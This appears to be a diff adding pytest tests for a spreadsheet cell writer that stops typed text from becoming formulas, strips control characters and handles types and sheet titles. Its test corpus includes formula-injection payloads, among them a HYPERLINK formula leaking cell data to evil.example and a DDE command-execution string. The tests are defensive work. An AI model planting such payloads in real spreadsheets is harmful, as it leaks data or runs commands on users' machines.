@@ -1,0 +1,139 @@
+"""The safe cell writer: typed text never becomes a formula, and every file stays valid."""
+
+from __future__ import annotations
+
+import datetime as dt
+import zipfile
+from pathlib import Path
+
+import pytest
+from lxml import etree
+from openpyxl import Workbook, load_workbook
+
+from roam.report.cells import (
+    MAX_CELL_CHARS,
+    TRUNCATION_MARKER,
+    clean_text,
+    put,
+    safe_sheet_title,
+    sheet_reference,
+)
+from roam.report.styles import TEXT, install_styles
+
+# Text a team might type (or an attacker might plant) that a spreadsheet could run.
+FORMULA_CORPUS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "-",
+    "+33 1 23 45 67 89",
+    "-- see the annex",
+    "@liaison please check",
+    "=1+1\nsecond line",
+]
+# Control characters Excel refuses, with what must remain of them (worked out by hand:
+# tab, line feed and carriage return are allowed, every other C0 control is removed).
+CONTROL_CORPUS = [
+    ("a\x00b", "ab"),
+    ("bell\x07", "bell"),
+    ("\x1b[31mred", "[31mred"),
+    ("form\x0cfeed", "formfeed"),
+    ("vertical\x0btab", "verticaltab"),
+    ("\x01\x02\x03x", "x"),
+    ("keeps\ttab\nand newline", "keeps\ttab\nand newline"),
+]
+
+
+def _round_trip(tmp_path: Path, values: list[str], styled: bool) -> tuple[Path, list[object]]:
+    workbook = Workbook()
+    sheet = workbook.active
+    writer = install_styles(workbook) if styled else None
+    for row, value in enumerate(values, start=1):
+        if writer is None:
+            put(sheet, row, 1, value)
+        else:
+            writer.put(sheet, row, 1, value, TEXT)
+    path = tmp_path / "cells.xlsx"
+    workbook.save(path)
+    sheet = load_workbook(path).active
+    cells = [sheet.cell(row, 1) for row in range(1, len(values) + 1)]
+    assert all(cell.data_type != "f" for cell in cells)
+    return path, [cell.value for cell in cells]
+
+
+def _sheet_xml(path: Path) -> list[bytes]:
+    with zipfile.ZipFile(path) as archive:
+        return [archive.read(n) for n in archive.namelist() if n.endswith(".xml")]
+
+
+@pytest.mark.parametrize("styled", [False, True], ids=["plain", "styled"])
+def test_formula_like_text_comes_back_as_the_same_plain_string(tmp_path: Path, styled: bool):
+    path, values = _round_trip(tmp_path, FORMULA_CORPUS, styled)
+    assert values == FORMULA_CORPUS
+    for part in _sheet_xml(path):
+        etree.fromstring(part)  # every part is well-formed XML
+        assert b"<f>" not in part and b"<f " not in part
+
+
+def test_styled_formula_like_text_carries_the_quote_prefix(tmp_path: Path):
+    workbook = Workbook()
+    writer = install_styles(workbook)
+    sheet = workbook.active
+    writer.put(sheet, 1, 1, "=1+1", TEXT)
+    writer.put(sheet, 2, 1, "plain", TEXT)
+    path = tmp_path / "prefix.xlsx"
+    workbook.save(path)
+    sheet = load_workbook(path).active
+    assert sheet["A1"].quotePrefix
+    assert not sheet["A2"].quotePrefix
+    assert sheet["A1"].alignment.wrap_text  # the style is kept besides the prefix
+
+
+def test_control_characters_are_removed_and_the_file_is_valid_xml(tmp_path: Path):
+    path, values = _round_trip(tmp_path, [raw for raw, _ in CONTROL_CORPUS], styled=True)
+    assert values == [expected for _, expected in CONTROL_CORPUS]
+    for part in _sheet_xml(path):
+        etree.fromstring(part)
+
+
+def test_text_over_the_cell_limit_is_cut_with_a_visible_marker():
+    text = "x" * 40_000
+    cut = clean_text(text)
+    assert len(cut) == MAX_CELL_CHARS
+    assert cut.endswith(TRUNCATION_MARKER)
+    assert cut.startswith("x" * 1000)
+    assert clean_text("y" * MAX_CELL_CHARS) == "y" * MAX_CELL_CHARS  # exactly at the limit
+
+
+def test_numbers_dates_and_times_keep_their_types(tmp_path: Path):
+    workbook = Workbook()
+    sheet = workbook.active
+    put(sheet, 1, 1, 73.25)
+    put(sheet, 2, 1, dt.date(2024, 3, 1))
+    # 12:30 in UTC+2 is 10:30 UTC: Excel has no time zones, so UTC wall time is stored.
+    put(sheet, 3, 1, dt.datetime(2024, 4, 2, 12, 30, tzinfo=dt.timezone(dt.timedelta(hours=2))))
+    put(sheet, 4, 1, float("nan"))
+    path = tmp_path / "types.xlsx"
+    workbook.save(path)
+    sheet = load_workbook(path).active
+    assert sheet["A1"].value == 73.25
+    assert sheet["A2"].value == dt.datetime(2024, 3, 1)
+    assert sheet["A3"].value == dt.datetime(2024, 4, 2, 10, 30)
+    assert sheet["A4"].value == "nan"
+
+
+def test_sheet_titles_are_valid_unique_and_cut_at_a_word():
+    assert safe_sheet_title("M Multistakeholder participation") == "M Multistakeholder"
+    assert safe_sheet_title("R: Rights/Droits?") == "R- Rights-Droits-"
+    assert safe_sheet_title("Rights", taken=["rights"]) == "Rights (2)"
+    assert len(safe_sheet_title("x" * 50)) == 31
+
+
+def test_sheet_references_quote_apostrophes():
+    assert sheet_reference("Droits de l'homme", "B7") == "'Droits de l''homme'!B7"
